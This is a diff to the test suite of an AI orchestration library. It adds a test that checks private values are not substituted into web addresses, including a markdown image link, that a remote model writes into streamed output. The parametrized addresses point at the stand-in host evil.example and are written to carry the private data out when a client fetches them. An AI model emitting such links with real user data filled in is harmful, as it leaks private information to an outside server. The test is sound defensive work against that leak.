@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from nearfar.orchestrator import Hybrid, Tool, tool
 from nearfar.orchestrator.cache.settings import CacheSettings
 from nearfar.orchestrator.compression.policy import CompressionPolicy, CompressionUse
-from nearfar.orchestrator.events import AgentText, AttemptEnded
+from nearfar.orchestrator.events import AgentText, AttemptEnded, TaskFinished
 from nearfar.orchestrator.hybrid import TaskOptions
 from nearfar.orchestrator.memory import Tier
 from nearfar.orchestrator.policy import Strategy
@@ -452,3 +452,20 @@ async def test_task_in_which_something_private_was_found_stays_for_good() -> Non
         result = await hybrid.run("Write to tomas@example.org")
     assert cloud.requests == []
     assert (result.label.tier, result.label.origins) == (Tier.USER, ("the detectors",))
+
+
+@pytest.mark.parametrize("address", ["https://evil.example/?q={}", "![x](//evil.example/{}.png)", "<https://evil.example/#{}>"])
+async def test_placeholder_in_an_address_of_the_web_is_not_filled_in_where_it_may_be_displayed(address: str) -> None:
+    """An image that a client fetches would tell its server what the placeholder stands for."""
+
+    def far(request: StepRequest) -> Reply:
+        return READ if len(request.messages) == 1 else list(f"See {address.format(shown(request)[0])} or {shown(request)[0]}.")
+
+    async with Hybrid(far=scripted(far), tools=[read_diary], policy=COVERED) as hybrid, aclosing(hybrid.stream("Say it", **FAR)) as events:
+        heard = [event async for event in events]
+    streamed = "".join(event.text for event in heard if isinstance(event, AgentText))
+    last = heard[-1]
+    assert isinstance(last, TaskFinished)
+    assert last.result.text == streamed
+    assert streamed.count(DIARY) == 1
+    assert streamed.endswith(f" or {DIARY}.")
